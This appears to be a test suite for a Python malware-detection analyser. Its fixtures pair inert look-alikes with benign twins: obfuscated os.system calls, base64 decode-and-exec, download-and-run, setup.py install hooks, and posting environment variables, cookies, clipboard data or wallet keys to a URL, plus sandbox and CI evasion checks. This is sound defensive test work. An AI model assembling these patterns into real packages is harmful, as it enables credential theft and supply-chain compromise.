"""Each behaviour with a look-alike (inert) and a benign twin."""

import pickle
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from features.code.analyse_file import analyse_file
from features.code.detect.rules import SYNTAX_RULES
from features.code.evaluate.api_behaviours import BEHAVIOURS
from features.code.measures import MEASURES
from features.contract import Role

INNER = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=="  # import os / os.system('id')
SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n"


def counts(source: str, role: Role = Role.REST) -> dict[str, int]:
    return dict(analyse_file(source.encode(), role).counts)


SAME_CALL = [
    "import os\nos.system('id')",
    "import os as x\nx.system('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "__import__('os').system('id')",
    "__import__('o' + 's').system('id')",
    "__import__('so'[::-1]).system('id')",
    "import importlib\nimportlib.import_module('o' + 's').system('id')",
    "from importlib import import_module as im\nim('os').system('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
    "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
    "import os\ngetattr(os, ''.join(chr(x ^ 1) for x in [114, 120, 114, 117, 100, 108]))('id')",
    "import os\nvars(os)['system']('id')",
    "import os\nos.__dict__['system']('id')",
    "import os, sys\nsys.modules['os'].system('id')",
    "import os\nglobals()['os'].system('id')",
    "import builtins\nbuiltins.__import__('os').system('id')",
    "__builtins__.__import__('os').system('id')",
    "__builtins__.__dict__['__import__']('os').system('id')",
    "__builtins__['__import__']('os').system('id')",
    "import os\nrun = os.system\nrun('id')",
    "import os\nrun = getattr(os, 'system')\nagain = run\nagain('id')",
    "import os\nf = (lambda: os.system)()\nf('id')",
    "import os\n[print, os.system][1]('id')",
    "import os\n{'a': os.system}['a']('id')",
    "import os, functools\nfunctools.partial(os.system, 'id')()",
    "class A:\n    def __init__(self):\n        import os\n        self.o = os\n    def go(self):\n        self.o.system('id')",
    "name = 'sys'\nname += 'tem'\nimport os\ngetattr(os, name)('id')",
    "import base64, os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
]


@pytest.mark.parametrize("source", SAME_CALL)
def test_a_call_is_known_under_every_name(source):
    assert counts(source)["call_execute_process"] >= 1


@pytest.mark.parametrize(
    "source",
    [
        "def system(x):\n    return x\nsystem('id')",
        "class os:\n    def system(self):\n        pass\nos().system()",
        "import osmosis as o\no.system('id')",
        "import os\ngetattr(os, name)('id')",
        "text = 'os.system(1)'",
    ],
)
def test_a_name_that_only_looks_like_it_is_no_process(source):
    assert counts(source).get("call_execute_process", 0) == 0


FINDINGS = [
    ("decode_then_execute", f"import base64\nexec(base64.b64decode('{INNER}'))", "import base64\nx = base64.b64decode(a)\nexec(b)"),
    ("decode_then_execute", "import base64, zlib\na = zlib.decompress(base64.b64decode(blob))\nb = a.decode()\neval(compile(b, '', 'exec'))", "import zlib\nprint(zlib.decompress(x))"),
    ("decode_then_execute", "import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(y))", "import base64\ndef d(x):\n    return base64.b64encode(x)\nexec(d(y))"),
    ("decode_then_execute", "import base64\ndef run(code):\n    exec(code)\nrun(base64.b64decode(x))", "def run(code):\n    exec(code)\nrun('1')"),
    ("download_then_execute", "import requests\nexec(requests.get(u).text)", "import requests\nprint(requests.get(u).text)"),
    ("download_then_execute", "from urllib.request import urlopen as o\nwith o(u) as f:\n    c = f.read()\nexec(c)", "exec('1')"),
    ("build_then_execute", "exec(''.join(chr(ord(c) ^ k) for c in t))", "print(''.join(chr(c) for c in t))"),
    ("file_then_execute", "exec(open('x').read())", "x = open('x').read()"),
    ("deserialize_then_execute", "import marshal\nexec(marshal.loads(x))", "import marshal\nmarshal.loads(x)"),
    ("decode_then_deserialize", "import pickle, base64\npickle.loads(base64.b64decode(x))", "import pickle\npickle.loads(x)"),
    ("decode_then_run", "import os, base64\nos.system(base64.b64decode(x).decode())", "import os\nos.system('ls')"),
    ("network_to_process", "import socket, subprocess\ns = socket.socket()\ns.connect(a)\nsubprocess.run(s.recv(9))", "import socket\ns = socket.socket()\ns.recv(9)"),
    ("build_then_run", "import os\nos.system(chr(105) + chr(x))", "import os\nos.system('i' + 'd')"),
    ("decode_to_file", "import base64\nopen('x', 'wb').write(base64.b64decode(y))", "open('x', 'wb').write(y)"),
    ("download_to_file", "import requests\nwith open('x', 'wb') as f:\n    f.write(requests.get(u).content)", "with open('x', 'wb') as f:\n    f.write(u)"),
    ("environment_to_network", "import os, requests\nrequests.post(u, json=dict(os.environ))", "import os, requests\nrequests.post(u, json={})\nos.environ['A']"),
    ("environment_to_network", "from os import environ as e\nimport requests\nd = {'k': e.get('KEY')}\nrequests.post(u, data=d)", "import requests\nd = {'k': 1}\nrequests.post(u, data=d)"),
    ("host_to_network", "import socket, urllib.request\nh = socket.gethostname()\nurllib.request.urlopen(f'http://a.example.invalid/{h}')", "import urllib.request\nurllib.request.urlopen('http://a.example.invalid/')"),
    ("file_to_network", "import requests\nrequests.post(u, files={'f': open('x', 'rb')})", "import requests\nrequests.post(u)"),
    ("secrets_to_network", "import browser_cookie3, requests\nc = list(browser_cookie3.load())\nrequests.post(u, data=c)", "import browser_cookie3\nbrowser_cookie3.load()"),
    ("spying_to_network", "import pyperclip, requests\nrequests.post(u, data=pyperclip.paste())", "import pyperclip\npyperclip.paste()"),
    ("process_to_network", "import subprocess, requests\nrequests.post(u, data=subprocess.check_output('id'))", "import subprocess\nsubprocess.check_output('id')"),
    ("hidden_name", "import os\ngetattr(os, 'sys' + 'tem')", "getattr(a, 'colour' + 'ed')"),
    ("decoded_address", f"import requests, base64\nrequests.get(base64.b64decode('{INNER}').decode())", "import requests, base64\nrequests.get(base64.b64encode(x))"),
    ("silent_network", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    pass", "import requests\ntry:\n    requests.get(u)\nexcept Exception:\n    raise"),
    ("silent_process", "import os\ntry:\n    os.system('id')\nexcept:\n    pass", "import os\nos.system('id')"),
    ("guarded_system", "import os, platform\nif platform.system() == 'Windows':\n    os.system('id')", "import os\nif a:\n    os.system('id')"),
    ("guarded_system", "import os\ndef go():\n    os.system('id')\nif os.name == 'nt':\n    go()", "import os\ndef go():\n    print('id')\nif os.name == 'nt':\n    go()"),
    ("guarded_system", "import os, sys\ndef go():\n    if sys.platform != 'win32':\n        return\n    os.system('id')", "import os, sys\ndef go():\n    if sys.platform != 'win32':\n        print('no')\n    os.system('id')"),
    ("guarded_system", "import os, platform\ns = platform.system()\nif s == 'Windows':\n    os.system('id')", "import os, platform\ns = platform.python_version()\nif s == '3':\n    os.system('id')"),
    ("guarded_ci", "import os\nif not os.getenv('CI'):\n    os.system('id')", "import os\nif not os.getenv('CI'):\n    print('id')"),
    ("guarded_ci", "import os, requests\nif 'GITHUB_ACTIONS' in os.environ:\n    requests.post(u)", "import os, requests\nif 'CI' in text:\n    requests.post(u)"),
    ("guarded_user", "import os, getpass\nif getpass.getuser() != 'me':\n    os.system('id')", "import os, getpass\nif getpass.getuser() != 'me':\n    os.getcwd()"),
    ("guarded_user", "import os\nif os.environ.get('USERNAME') == 'x':\n    os.remove(p)", "import os\nif os.environ.get('DEBUG') == 'x':\n    os.remove(p)"),
    ("guarded_time", "import os, datetime\nif datetime.datetime.now().month > 6:\n    os.system('id')", "import os, time\nif time.time() > last:\n    os.system('id')"),
    ("guarded_locale", "import os, locale\nif locale.getdefaultlocale()[0] == 'xx_XX':\n    os.system('id')", "import os, locale\nif locale.getdefaultlocale()[0]:\n    print('id')"),
    ("guarded_analysis", "import os, sys\nif sys.gettrace():\n    os._exit(0)\nos.system('id')", "import os, sys\nif sys.gettrace():\n    print('traced')\nos.system('id')"),
    ("guarded_analysis", "import os\nif not is_sandboxed():\n    os.system('id')", "import os\nif not is_ready():\n    os.system('id')"),
    ("guarded_online", "import os\nif check_internet():\n    os.system('id')", "import os\nif check_input():\n    os.system('id')"),
    ("guarded_file", "import os\nif os.path.exists(p):\n    os.system('id')", "import os\nif os.path.exists(p):\n    os.remove(p)"),
    ("download_then_run", "import requests, subprocess\np = d / 'x.exe'\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.run([str(p)])", "import requests, subprocess\np = d / 'x.tar'\nwith open(p, 'wb') as f:\n    f.write(requests.get(u).content)\nsubprocess.run(['tar', 'xf', str(p)])"),
    ("download_then_run", "from urllib.request import urlretrieve\nimport os\nurlretrieve(u, 'a/x.sh')\nos.system('bash a/x.sh')", "from urllib.request import urlretrieve\nimport os\nurlretrieve(u, 'a/x.sh')\nos.system('cat a/x.sh')"),
    ("download_then_run", "import os, urllib.request\nf = os.path.join(t, 'x.exe')\nurllib.request.urlretrieve(u, f)\nos.startfile(f)", "import os, urllib.request\nf = os.path.join(t, 'x.exe')\ng = os.path.join(t, 'y.exe')\nurllib.request.urlretrieve(u, f)\nos.startfile(g)"),
    ("drop_then_run", "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b'import os  # inert, and long enough to be code\\nprint(os.getcwd())')\nos.system(f'start pythonw {t.name}')", "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b'some words and nothing else in this file, on and on')\nos.system(f'cat {t.name}')"),
    ("drop_then_run", "import base64, subprocess\nopen('x.py', 'wb').write(base64.b64decode(y))\nsubprocess.Popen(['python', 'x.py'])", "import base64, subprocess\nopen('x.png', 'wb').write(base64.b64decode(y))\nsubprocess.Popen(['python', 'x.py'])"),
    ("own_key_decrypt", f"from cryptography.fernet import Fernet\nk = 'abcdefghijklmnopqrstuvwxyz0123456789abcdefg='\nexec(Fernet(k).decrypt(b'{INNER * 2}'))", f"from cryptography.fernet import Fernet\nFernet(k).decrypt(b'{INNER * 2}')"),
    ("own_key_decrypt", f"from Crypto.Cipher import AES\nc = AES.new(b'0123456789abcdef', AES.MODE_ECB)\nc.decrypt(b'{INNER * 2}')", "from Crypto.Cipher import AES\nc = AES.new(b'0123456789abcdef', AES.MODE_ECB)\nc.decrypt(data)"),
    ("keys_to_network", "import requests\ndef f(private_key):\n    requests.post(u, json={'k': private_key})", "import requests\ndef f(public_key):\n    requests.post(u, json={'k': public_key})"),
    ("keys_to_network", "import requests\nd = {'m': wallet.mnemonic}\nrequests.post(u, json=d)", "import requests\nd = {'m': wallet.address}\nrequests.post(u, json=d)"),
    ("patches_library", "import requests, solders.keypair as s\nold = s.Keypair.from_seed\ndef new(x):\n    requests.post(u, data=x)\n    return old(x)\ns.Keypair.from_seed = new", "import json\nold = json.dumps\ndef new(x):\n    return old(x, indent=1)\njson.dumps = new"),
    ("patches_library", "import os, json\ndef fake(*a):\n    os.system('id')\nsetattr(json, 'dumps', fake)", "import os, json\ndef fake(*a):\n    os.getcwd()\nsetattr(json, 'dumps', fake)"),
    ("edits_package", "import site, os\nfor d in site.getsitepackages():\n    p = os.path.join(d, 'demo', '__init__.py')\n    with open(p, 'a') as f:\n        f.write('x')", "import site, os\nfor d in site.getsitepackages():\n    p = os.path.join(d, 'demo', '__init__.py')\n    with open(p, 'r') as f:\n        f.read()"),
    ("edits_package", "import requests, os\nopen(os.path.join(os.path.dirname(requests.__file__), 'api.py'), 'a').write('x')", "import os\nopen(os.path.join(os.path.dirname(__file__), 'api.py'), 'a').write('x')"),
    ("patches_library", "import builtins, os\ndef fake(*a):\n    os.system('id')\nbuiltins.print = fake", "import os\nclass A:\n    pass\ndef fake(*a):\n    os.system('id')\nA.go = fake"),
    ("hidden_window", "import subprocess\nsubprocess.Popen('x', creationflags=subprocess.CREATE_NO_WINDOW)", "import subprocess\nsubprocess.Popen('x', creationflags=0)"),
    ("hidden_window", "import subprocess\nsubprocess.Popen('x', creationflags=0x08000000)", "import subprocess\nsubprocess.Popen('x')"),
    ("detached_process", "import subprocess\nsubprocess.Popen('x', start_new_session=True)", "import subprocess\nsubprocess.Popen('x', shell=True)"),
    ("self_delete", "import os\nos.remove(__file__)", "import os\nos.remove(path)"),
    ("aliased_builtin", "e = exec\ne('1')", "exec('1')"),
    ("pip_install", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", "import subprocess\nsubprocess.run(['make', 'install'])"),
    ("pip_install", "import os\nos.system('pip install x')", "import os\nos.system('make install')"),
    ("unpacked_code", f"x = '{INNER}'", "x = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'"),
]  # fmt: skip


@pytest.mark.parametrize(("finding", "look_alike", "twin"), FINDINGS)
def test_a_finding_sees_the_look_alike_and_not_its_twin(finding, look_alike, twin):
    assert counts(look_alike).get("finding_" + finding, 0) >= 1
    assert counts(twin).get("finding_" + finding, 0) == 0


RUNS_AT_INSTALL = [
    "import os\nos.system('id')",
    "import os\ndef f():\n    os.system('id')\nf()",
    "import os\ndef g():\n    os.system('id')\ndef f():\n    g()\nf()",
    "import os\nclass A:\n    os.system('id')",
    "import os\ndef f(a=os.system('id')):\n    pass",
    "import os\ndef deco(f):\n    os.system('id')\n    return f\n@deco\ndef g():\n    pass",
    "import os, atexit\ndef f():\n    os.system('id')\natexit.register(f)",
    "import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()",
    "import os\nif __name__ == '__main__':\n    os.system('id')",
    SETUP + "import os\nclass X(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': X})",
    SETUP
    + "import os\nclass X(install):\n    def run(self):\n        self.go()\n    def go(self):\n        os.system('id')\nsetup(cmdclass={'install': X})",
    SETUP
    + "import os\nclass X(install):\n    def finalize_options(self):\n        os.system('id')\nsetup(cmdclass=dict(install=X))",
    "import os\ndef build_wheel(a, b, c):\n    os.system('id')",
    SETUP + "import os\nsetup(name='x', version=str(os.system('id')))",
    "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()",
    "import os\n(lambda: os.system('id'))()",
    "import os, sys\nif 'install' in sys.argv:\n    os.system('id')",
    "import os, sys\nif 'test' not in sys.argv:\n    os.system('id')",
]


@pytest.mark.parametrize("source", RUNS_AT_INSTALL)
def test_what_runs_at_install_is_followed(source):
    assert counts(source, Role.INSTALL).get("finding_install_time_process", 0) >= 1


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef f():\n    os.system('id')",
        "import os\nclass A:\n    def run(self):\n        os.system('id')",
        "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')",
        SETUP
        + "from setuptools import Command\nimport os\nclass Upload(Command):\n    def run(self):\n        os.system('twine upload')\nsetup(cmdclass={'upload': Upload})",
    ],
)
def test_what_nobody_runs_at_install_does_not_count(source):
    assert counts(source, Role.INSTALL).get("finding_install_time_process", 0) == 0
    assert counts(source, Role.INSTALL)["call_execute_process"] == 1


def test_a_main_guard_runs_in_a_script_and_not_in_an_import():
    source = "import os\nif __name__ == '__main__':\n    os.system('id')"
    assert counts(source, Role.INSTALL)["run_execute_process"] == 1
    assert "run_execute_process" not in counts(source, Role.IMPORT)


def test_hidden_code_counts_as_if_it_stood_there():
    found = counts(f"import base64\nexec(base64.b64decode('{INNER}'))", Role.IMPORT)
    assert found["call_execute_process"] == 1
    assert found["run_execute_process"] == 1
    assert found["unpacked_layers"] == 1
    assert found["unpacked_execution"] >= 1


def test_spots_name_the_line():
    spots = analyse_file(f"import base64\n\nexec(base64.b64decode('{INNER}'))".encode(), Role.INSTALL).locations
    assert (spots[0].id, spots[0].line) == ("decode_then_execute", 3)
    assert "exec(" in spots[0].excerpt


PYTHON2 = """
import os
print "starting", os.getcwd()
exec "import sys"
try:
    os.system('id')
except Exception, e:
    print >>sys.stderr, `e`
mode = 0755
if mode <> 1: raise ValueError, "no"
"""


def test_python_2_is_read_by_its_tree():
    analysis = analyse_file(PYTHON2.encode(), Role.INSTALL)
    assert analysis.parsed
    assert analysis.counts["python2"] == 1
    assert analysis.counts["call_execute_process"] == 1
    assert analysis.counts["call_execute_code"] == 1


@pytest.mark.parametrize(
    "source",
    [
        'import os\nx = f"{a["b"]}"\nos.system("id")',
        "import os\nx = f\"{'\\n'.join(a)}\"\nos.system('id')",
        "import os\ndef f[T](a: T) -> T:\n    return a\ntype X = int\nos.system('id')",
    ],
)
def test_newer_syntax_is_no_broken_file(source):
    analysis = analyse_file(source.encode(), Role.INSTALL)
    assert analysis.parsed
    assert analysis.counts["run_execute_process"] == 1
    assert "python2" not in analysis.counts


@pytest.mark.parametrize(
    "source",
    [
        'x = """\nimport os as o\no.system("id")\n',
        'import os as o\no.system("id")\ndef (:\n',
        "from os import system as s\n)\ns('id')\n",
    ],
)
def test_a_broken_file_is_read_word_by_word(source):
    analysis = analyse_file(source.encode(), Role.INSTALL)
    assert not analysis.parsed
    assert analysis.counts["unparsed"] == 1
    assert analysis.counts["call_execute_process"] == 1


def test_decoding_beside_execution_shows_in_a_broken_file():
    source = f"x = '''\nimport base64\nexec(base64.b64decode('{INNER}'))\n"
    found = counts(source, Role.INSTALL)
    assert found["finding_decode_then_execute"] == 1
    assert found["unpacked_layers"] == 1


@pytest.mark.parametrize(
    "source",
    [
        "(" * 500 + ")" * 500,
        "x = " + "[" * 199 + "]" * 199,
        "a" + "()" * 30_000,
        "1" + "+1" * 30_000,
        "not " * 30_000 + "1",
        "lambda: " * 20_000 + "1",
        "import a" + ".a" * 100_000,
        "if a:\n pass\n" + "elif a:\n pass\n" * 3_000,
    ],
)
def test_nesting_that_a_parser_dies_of_is_a_reason(source):
    analysis = analyse_file(source.encode(), Role.INSTALL)
    assert (analysis.parsed, analysis.reason, analysis.counts["too_deep"]) == (False, "depth", 1)


@pytest.mark.parametrize(
    "source",
    [
        " " * 500_000 + ":",
        "'" + "\\'" * 250_000,
        "def a[" * 80_000,
        "print " * 80_000,
        ";" * 400_000,
        "a" * 900_000,
        "x = '" + "ab" * 400_000 + "'",
        'f"{' * 100_000,
        "`" * 400_001,
        ("(" * 45 + "'\\'") * 8_000,
        "x = [" + "chr(1)," * 15_000 + "]\nexec(''.join(x))",
        "\n".join(f"a{n} = a{n - 1} + a{n - 1}" for n in range(1, 3000)) + "\na0 = 'aaaa'\nexec(a2999)",
    ],
)
def test_time_is_bounded_whatever_the_file(source):
    begin = time.process_time()
    analyse_file(source.encode(), Role.INSTALL)
    assert time.process_time() - begin < 10


@pytest.mark.parametrize(
    "data",
    [
        "import os\nos.system('é')".encode("utf-16"),
        b"# -*- coding: latin-1 -*-\nimport os\nos.system('\xe9')",
        b"\xef\xbb\xbfimport os\nos.system('id')",
        b"import os\r\nos.system('id')\r\n",
        b"#\0\nimport os\nos.system('id')",
    ],
)
def test_encodings_hide_nothing(data):
    assert analyse_file(data, Role.INSTALL).counts["run_execute_process"] == 1


def test_code_out_of_sight():
    assert counts("x = 1;" + " " * 200 + "import os")["offscreen_lines"] == 1
    assert "offscreen_lines" not in counts("x = 1" + " " * 200 + "# a comment\n" + " " * 200 + "\n")


KNOWN = (
    {f"call_{b.id}" for b in BEHAVIOURS}
    | {f"run_{b.id}" for b in BEHAVIOURS}
    | {f"finding_{f.id}" for f in SYNTAX_RULES}
    | {m.id for m in MEASURES}
)


def check(data: bytes) -> None:
    analysis = analyse_file(data, Role.INSTALL)
    assert {k for k in analysis.counts if not k.startswith(("folded_", "unpacked_"))} <= KNOWN
    assert pickle.loads(pickle.dumps(analysis)) == analysis
    assert all(spot.line >= 1 and len(spot.excerpt) <= 200 for spot in analysis.locations)
    assert analysis == analyse_file(data, Role.INSTALL)


@given(st.binary(max_size=400))
def test_any_bytes_have_an_analysis(data):
    check(data)


@given(st.text(max_size=400))
def test_any_text_has_an_analysis(text):
    check(text.encode("utf-8", "surrogatepass"))


PIECES = st.sampled_from(
    [*"()[]{}'\"\\\n\t :;,.=+%@#", "exec", "eval", "import ", "from os import ", "as e", "getattr", "base64.b64decode",
     "'''", '"""', "lambda x: ", "f'{", "chr", "''.join", "def f(x):\n ", "class A:\n ", "return ", "for x in ", "[::-1]",
     "os", "system", "x", "1", "99999999999", "0x", "b'", "\\x00", "if ", "else:", "try:\n", "except: pass", INNER]
)  # fmt: skip


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=60))
def test_anything_that_looks_like_code_has_an_analysis(pieces):
    check("".join(pieces).encode())
